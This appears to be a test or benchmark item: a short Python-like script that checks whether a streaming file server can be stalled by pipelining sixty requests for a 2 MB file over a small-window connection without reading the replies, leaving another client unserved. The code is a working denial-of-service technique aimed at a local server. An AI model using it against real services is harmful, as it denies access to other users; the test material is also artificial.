# aim: have the server hold what nobody reads
# mechanism: requests for a large file, one behind the other, whose answers are not read
# server: streams
# plain: naive

def attack():
    run("with open('large', 'wb') as file: file.write(bytes(2_000_000))")
    one = f"GET {here}/files/content?path=large HTTP/1.1\r\nHost: localhost\r\nX-API-Key: {mine.key}\r\n\r\n".encode()
    with line(small_window=True) as held:
        held.send(one * 60)
        return not victim_is_served() and "others are not answered"


judge(attack)
